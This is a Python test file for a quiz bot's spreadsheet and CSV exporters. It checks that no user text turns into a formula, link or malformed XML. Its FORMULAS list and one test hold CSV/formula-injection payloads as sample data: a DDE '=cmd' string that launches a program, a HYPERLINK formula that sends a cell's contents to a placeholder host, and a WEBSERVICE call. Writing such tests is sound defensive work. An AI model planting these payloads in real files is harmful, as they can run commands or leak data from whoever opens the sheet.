"""No text of anybody's becomes a formula, a link or broken XML in any file that we send."""

import ast
import csv
import io
import json
import re
import zipfile
from datetime import timedelta
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from bot.texts import LANGUAGES, texts
from questions.cells import starts_formula
from questions.formats import json_bank, xlsx_bank
from questions.formats.marked import marked
from questions.formats.template import template
from questions.item_statistics import ItemStatistics
from questions.question import Kind, Question
from questions.score_sheet import (
    About,
    AttemptRow,
    ItemRow,
    PersonRow,
    Scope,
    ScoreSheet,
    State,
    sheet_name,
)
from questions.score_sheet_csv import as_csv
from questions.score_sheet_xlsx import workbook
from tests.builders import NOW, make_bank, make_quote

ROOT = Path(__file__).parents[2]
FORMULAS = ('=HYPERLINK("http://x/?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)",
            "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x", " =1", "\u3000=1", "\u200b=1",
            "\ufeff=1", "'=1", "{=1}", "<r><t>=1</t></r>", "http://x", "mailto:a@b", "internal:A1",
            "external:x.xlsx", "\x00=1", "\x1b[31m", "\ud800", "]]>", "<f>1</f>", "&#61;1",
            "_x003D_1", "_x0000_")  # fmt: skip
anything = st.text(st.characters(codec=None), max_size=40)
nasty = st.one_of(
    st.sampled_from(FORMULAS),
    st.builds("{}{}".format, st.sampled_from(FORMULAS), anything),
    anything,
)
FEWER = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
# What a chart points at cells with, and what a rule that colours cells compares with: ours.
OWN_FORMULAS = re.compile(rb"<c:f>'?[^!<>]+'?!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?</c:f>")


def parts(data):
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def runs_nothing(data):
    """The workbook is sound XML with no formula in a cell, no link and nothing from outside."""
    for name, content in parts(data).items():
        if name.endswith((".xml", ".rels", ".vml")):
            ElementTree.fromstring(content)
        assert not re.search(rb"<(\w+:)?f[ />]", OWN_FORMULAS.sub(b"", content)), name
        assert not re.search(rb"<hyperlink|TargetMode|<ddeLink|<oleLink|vbaProject", content), name
        assert b"externalLink" not in content, name
    return True


def fields(data):
    """Every field of a CSV file; those that are no text stand there without quotes."""
    text = data.decode("utf-8-sig")
    return [each for record in csv.reader(io.StringIO(text, newline="")) for each in record]


def is_number(field):
    return re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", field) is not None


@st.composite
def score_sheets(draw):
    """A sheet about people, departments, banks, questions and exams of any name."""
    people = [
        PersonRow(n, draw(nasty), draw(nasty), draw(nasty), draw(nasty), draw(nasty))
        for n in range(draw(st.integers(1, 2)))
    ]
    attempts = [
        AttemptRow(
            person,
            draw(nasty),
            State.FINISHED,
            1,
            NOW,
            NOW + timedelta(minutes=5),
            8.0,
            10.0,
            note=draw(nasty),
        )
        for person in people
    ]
    question = Question(
        "q",
        draw(st.sampled_from([Kind.SINGLE, Kind.BLANK])),
        draw(nasty),
        choices=(draw(nasty), draw(nasty)),
        right=frozenset({0}),
        accepted=((draw(nasty),),),
    )
    scope = Scope(
        draw(st.sampled_from(About)),
        "Asia/Shanghai",
        NOW,
        draw(nasty),
        exam=draw(nasty),
        bank=draw(nasty),
        department=draw(nasty),
    )
    items = (ItemRow(draw(nasty), question, ItemStatistics()),)
    return ScoreSheet(scope, attempts, items, tuple(people), len(people))


@FEWER
@given(score_sheets(), st.sampled_from(LANGUAGES))
def test_a_score_sheet_runs_nothing(sheet, language):
    words = texts(language).words

    assert runs_nothing(workbook(sheet, words))
    unsafe = [each for each in fields(as_csv(sheet, words)) if starts_formula(each)]
    assert [each for each in unsafe if not is_number(each) and each[:1] != "'"] == []


@st.composite
def banks(draw):
    question = Question(
        "q",
        draw(st.sampled_from(Kind)),
        draw(nasty),
        choices=(draw(nasty), draw(nasty)),
        right=frozenset({0}),
        accepted=((draw(nasty), draw(nasty)),),
        tags=(draw(nasty),),
        quotes=(make_quote(draw(nasty)),),
        note=draw(nasty),
    )
    return make_bank(question, title=draw(nasty)), {"article": draw(nasty)}


@FEWER
@given(banks())
def test_a_bank_that_is_downloaded_runs_nothing(given_bank):
    bank, titles = given_bank

    assert runs_nothing(xlsx_bank.write_bank(bank, titles))
    written = fields(xlsx_bank.write_bank_csv(bank, titles))
    assert [each for each in written if starts_formula(each) and each[:1] != "'"] == []


@FEWER
@given(banks())
def test_a_bank_as_json_is_json(given_bank):
    """Halves of letters are in no bank: no database would have kept them."""
    bank, titles = given_bank
    assume(not re.search(r"\\ud[89a-f]", repr((bank, titles))))

    assert json.loads(json_bank.write_bank(bank, titles).decode("utf-8"))


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_template_runs_nothing(language):
    assert runs_nothing(template(language))


def uploaded(kind, cells):
    """A trainer's sheet with these texts, in a form in which a program would run them."""
    header = ["题干", "题型", "选项A", "选项B", "答案"]
    rows = [header, *([each, "单选题", each, "乙", "E"] for each in cells)]
    target = io.StringIO(newline="")
    if kind == "csv":
        csv.writer(target).writerows(rows)
        return target.getvalue().encode("utf-8", "replace")
    if kind == "html":
        escaped = "".join(
            "<tr>" + "".join(f"<td>{cell.replace('<', '&lt;')}</td>" for cell in row) + "</tr>"
            for row in rows
        )
        return f"<html><table>{escaped}</table></html>".encode("utf-8", "replace")
    book = openpyxl.Workbook()
    for row in rows:
        # An illegal character is no cell's content in any real file.
        book.active.append([openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", c) for c in row])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


printable = st.one_of(
    st.sampled_from([each for each in FORMULAS if each.isprintable()]),
    st.text(st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), max_size=20),
)


@FEWER
@given(
    kind=st.sampled_from(["csv", "html", "xlsx"]),
    cells=st.lists(printable, min_size=1, max_size=3),
    reason=nasty,
)
def test_a_sheet_that_is_returned_runs_nothing(kind, cells, reason):
    data, problems = uploaded(kind, cells), {}
    sheets = [""] if kind == "csv" else ["Sheet", "Sheet1", "表1", "1"]
    for sheet in sheets:
        problems |= {(sheet, row): reason for row in range(2, 2 + len(cells))}

    content, suffix = marked(data, problems)

    if suffix == ".csv":
        assert [e for e in fields(content) if starts_formula(e) and e[:1] != "'"] == []
    else:
        assert runs_nothing(content)


def test_a_formula_in_a_sheet_that_is_returned_is_what_it_showed():
    data = uploaded("xlsx", ["=1+1", '=WEBSERVICE("http://x")'])
    assert re.search(rb"<f>", parts(data)["xl/worksheets/sheet1.xml"])

    content, _ = marked(data, {("Sheet", 2): "=1+1"})

    assert runs_nothing(content)


@given(st.text(st.characters(codec="utf-8"), max_size=60) | st.sampled_from(FORMULAS[:20]))
def test_any_title_is_a_name_of_a_sheet(title):
    name = sheet_name(title)

    assert 0 < len(name) <= 31
    assert not set(name) & set("[]:*?/\\")


WRITERS = {
    "questions/score_sheet_csv.py",
    "questions/score_workbook.py",
    "questions/spreadsheet/csv_text.py",
    "questions/spreadsheet/xlsx_writer.py",
    "questions/formats/marked.py",
}
# By these XlsxWriter would guess what a text is, or make a formula or a link of it.
GUESSING = {"write", "write_row", "write_column", "write_formula", "write_array_formula",
            "write_url", "write_dynamic_array_formula", "write_rich_string"}  # fmt: skip


def test_only_these_rooms_write_sheets_and_none_of_them_guesses():
    writing, guessing = set(), set()
    for floor in ("bot", "db", "questions"):
        for path in (ROOT / floor).rglob("*.py"):
            name = str(path.relative_to(ROOT))
            for node in ast.walk(ast.parse(path.read_text("utf-8"))):
                if not isinstance(node, ast.Attribute):
                    continue
                owner = node.value.id if isinstance(node.value, ast.Name) else ""
                if (owner, node.attr) in {("csv", "writer"), ("xlsxwriter", "Workbook")}:
                    writing.add(name)
                # What is edited of a question is saved as well, but in no sheet.
                if node.attr == "add_worksheet" or (node.attr == "save" and owner != "edit"):
                    writing.add(name)
                if node.attr in GUESSING and name in WRITERS:
                    guessing.add((name, node.attr, node.lineno))

    assert writing == WRITERS
    assert guessing == set()
